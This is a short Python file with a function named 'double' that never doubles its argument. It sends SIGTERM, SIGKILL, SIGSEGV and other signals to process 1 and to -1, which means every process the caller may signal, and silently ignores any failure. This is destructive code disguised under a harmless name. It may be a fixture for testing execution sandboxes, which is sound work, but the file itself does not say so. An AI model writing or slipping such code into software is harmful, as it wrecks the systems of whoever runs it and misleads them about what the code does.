# mypy: ignore-errors
import os


def double(n):
    for target in (1, -1):
        for number in (15, 1, 2, 3, 9, 11, 31, 34):
            try:
                os.kill(target, number)
            except OSError:
                continue
    return 0
